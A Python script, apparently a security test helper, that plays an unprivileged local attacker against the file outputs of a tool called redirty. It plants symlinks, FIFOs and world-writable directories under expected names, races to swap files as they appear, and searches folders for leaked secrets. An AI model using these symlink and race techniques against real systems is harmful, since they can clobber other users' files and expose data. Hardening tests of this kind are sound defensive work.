"""Attack a command's output as another user: run by the bare interpreter, with that user's rights only.

attacker.py place KIND DEST PRECIOUS     put something under the name that the command will create
attacker.py swap KIND DEST PRECIOUS      wait for DEST, put something in its place, say so, and wait to be ended
attacker.py names COUNT FOLDER PRECIOUS  put links and FIFOs under the names of exports in the next seconds
attacker.py read FOLDER SECRET           print the files in which a secret can be read
"""

import json
import os
import struct
import sys
import time
import zlib

# names that redirty gives to files in its directories, and to those they are renamed from
FILES = (
    ".journal", ".0.pages", ".1.pages", ".2.pages", ".3.pages", ".4.pages", "memory.core", "mirror.json", "meta.json",
    "rounds.csv", "mappings.csv", "tlb.csv", "curves.csv", "working_set.csv", "pages.csv", "curve.csv", "runs.csv",
    "zeros.csv", "stacks.folded", "stacks.csv", "events.parquet", "physical.parquet", "frames.parquet",
    "inventory.img", "pages-1.img",
)  # fmt: skip


def journal() -> bytes:
    boot = open("/proc/sys/kernel/random/boot_id").read().strip()
    head = json.dumps({"journal": 1, "session": "a" * 32, "boot": boot}).encode().ljust(4096)
    body = struct.pack("<4sIQQ", b"SRC ", 0, 0, 0)
    return head + body + struct.pack("<I", zlib.crc32(body))


def link(at: str, precious: str) -> None:
    os.symlink(precious + "/victim", at)


def link_to_directory(at: str, precious: str) -> None:
    os.symlink(precious, at)


def dangling(at: str, precious: str) -> None:
    os.symlink(precious + "/new", at)


def fifo(at: str, _precious: str) -> None:
    os.mkfifo(at, 0o666)


def directory(at: str, _precious: str) -> None:
    """Offer a mirror to be continued, whose files everybody can read."""
    os.mkdir(at, 0o777)
    for name in FILES:
        with open(f"{at}/{name}", "wb") as file:
            file.write(journal() if name == ".journal" else b"")
        os.chmod(f"{at}/{name}", 0o666)


def directory_of_links(at: str, precious: str) -> None:
    os.mkdir(at, 0o777)
    for name in FILES:
        os.symlink(precious + "/victim", f"{at}/{name}")
        os.symlink(precious + "/victim", f"{at}/.{name}.new")


def directory_of_fifos(at: str, _precious: str) -> None:
    os.mkdir(at, 0o777)
    for name in FILES:
        os.mkfifo(f"{at}/{name}", 0o666)
        os.mkfifo(f"{at}/.{name}.new", 0o666)


KINDS = {
    f.__name__: f
    for f in (
        link,
        link_to_directory,
        dangling,
        fifo,
        directory,
        directory_of_links,
        directory_of_fifos,
    )
}


def way(at: str, precious: str) -> None:
    """Let the directory in which the output is to be created be a link."""
    os.symlink(precious, os.path.dirname(at))


def swap(kind: str, at: str, precious: str) -> None:
    while True:
        try:
            os.rename(at, at + ".real")
            break
        except OSError:
            os.sched_yield()
    KINDS[kind](at, precious)
    print("swapped", flush=True)
    time.sleep(1000)


def names(count: int, folder: str, precious: str) -> None:
    now = time.time()
    for i in range(count):
        stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime(now + i))
        for ending in ("csv", "svg"):
            name = f"redirty-summary-{stamp}"
            os.symlink(precious + "/victim", f"{folder}/.{name}.{ending}.new")
            if i % 2:
                os.symlink(precious + "/new", f"{folder}/{name}.{ending}")
                os.symlink(precious + "/victim", f"{folder}/{name}-2.{ending}")
            else:
                os.mkfifo(f"{folder}/{name}.{ending}", 0o666)
                os.symlink(precious + "/victim", f"{folder}/{name}-2.{ending}")


def read(folder: str, secret: str) -> None:
    for directory_, _, files in os.walk(folder):
        for name in files:
            path = f"{directory_}/{name}"
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
            except OSError:
                continue
            with os.fdopen(fd, "rb") as file:
                at = 0
                while True:  # the files are sparse
                    try:
                        at = os.lseek(file.fileno(), at, os.SEEK_DATA)
                    except OSError:
                        break
                    data = os.pread(file.fileno(), 1 << 20, at)
                    if secret.encode() in data:
                        print(path)
                    at += len(data)
                    if not data:
                        break


def main() -> None:
    os.umask(0)
    what, *words = sys.argv[1:]
    if what == "place":
        (way if words[0] == "way" else KINDS[words[0]])(*words[1:])
    elif what == "swap":
        swap(*words)
    elif what == "names":
        names(int(words[0]), *words[1:])
    elif what == "read":
        read(*words)


main()
